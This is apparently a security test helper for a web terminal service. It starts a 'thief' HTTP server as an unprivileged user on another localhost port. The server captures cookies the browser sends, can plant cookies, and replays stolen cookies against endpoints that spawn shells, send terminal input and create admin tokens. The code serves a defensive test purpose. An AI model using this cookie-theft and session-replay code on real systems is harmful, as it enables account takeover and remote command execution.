"""A program of another OS user on another port of the same host.

Cookies know no port: whoever opens its page hands it the cookies of every service on the host.
It keeps them, and tries them on the service as itself.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit
from urllib.request import urlopen

from tests.integration.harness import PATIENCE

PROGRAM = r"""
import http.client, http.server, json, urllib.parse

loot = []

class Thief(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        asked = urllib.parse.urlsplit(self.path)
        query = dict(urllib.parse.parse_qsl(asked.query))
        if asked.path == "/try":
            return self.answer(json.dumps(use(**query)))
        if asked.path == "/loot":
            return self.answer(json.dumps(loot))
        loot.append(self.headers.get("Cookie", ""))
        self.answer("<!doctype html><title>thief</title>", **query)

    def answer(self, text, **headers):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *words):
        pass

def use(netloc, method, path, headers, body=""):
    connection = http.client.HTTPConnection(netloc, timeout=60)
    connection.request(method, path, body.encode() or None, json.loads(headers))
    answer = connection.getresponse()
    found = {"status": answer.status, "headers": dict(answer.getheaders())}
    connection.close()
    return found

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Thief)
print(server.server_address[1], flush=True)
server.serve_forever()
"""

UPGRADE = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
}


def thief_command() -> list[str]:
    """How it starts: as nobody, where the tests may choose."""
    python = [str(Path(sys.executable).resolve()), "-I", "-c", PROGRAM]
    setpriv = shutil.which("setpriv")
    if os.geteuid() != 0 or setpriv is None:
        return python
    return [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", *python]


class CookieThief:
    """It, as long as the test goes on.

    @ivar url: its page; a query is answered as headers.
    """

    def __init__(self) -> None:
        self._child = subprocess.Popen(thief_command(), stdout=subprocess.PIPE, text=True, cwd="/")
        assert self._child.stdout is not None
        self.url = f"http://127.0.0.1:{int(self._child.stdout.readline())}/"

    @property
    def pid(self) -> int:
        """Its process."""
        return self._child.pid

    def close(self) -> None:
        """End it."""
        self._child.kill()
        self._child.wait(PATIENCE)
        if self._child.stdout is not None:
            self._child.stdout.close()

    def _ask(self, path: str) -> Any:
        with urlopen(f"{self.url}{path}", timeout=PATIENCE) as answer:
            return json.load(answer)

    def loot(self) -> str:
        """The cookies that came in last."""
        return str(self._ask("loot")[-1])

    def tossing(self, cookie: str) -> str:
        """The address at which it sets that cookie."""
        return f"{self.url}?{urlencode({'Set-Cookie': f'{cookie}; Path=/'})}"

    def use(
        self, service: str, method: str, path: str, body: Any = None, **headers: str
    ) -> dict[str, Any]:
        """What the service answers to it: C{status} and C{headers}."""
        query = {
            "netloc": urlsplit(service).netloc,
            "method": method,
            "path": path,
            "headers": json.dumps({name.replace("_", "-"): text for name, text in headers.items()}),
            "body": "" if body is None else json.dumps(body),
        }
        found: dict[str, Any] = self._ask(f"try?{urlencode(query)}")
        return found

    def doors(self, service: str, session: str, cookie: str) -> dict[str, int]:
        """The status of each door that it tries with a stolen cookie."""
        shell = {"mode": "shell", "start": True}
        kind = {"Content_Type": "application/json"}
        sockets = {name.replace("-", "_"): value for name, value in UPGRADE.items()}
        ways: dict[str, dict[str, Any]] = {
            "GET /api/me": {},
            "GET /api/sessions": {},
            "GET /api/events": {},
            "GET /api/docs": {},
            "GET /metrics": {},
            f"GET /api/sessions/{session}/terminal": {},
            f"GET /ws/sessions/{session}/terminal?cid=thief": sockets,
            "POST /api/sessions": {"body": shell, **kind},
            f"POST /api/sessions/{session}/input": {"body": {"input": "id\r"}, **kind},
            "POST /api/tokens": {"body": {"name": "x", "scopes": ["admin"]}, **kind},
            "POST /api/logout": {},
            "POST /api/login": {},
        }
        return {
            way: self.use(service, *way.split(" "), Cookie=cookie, **given)["status"]
            for way, given in ways.items()
        }
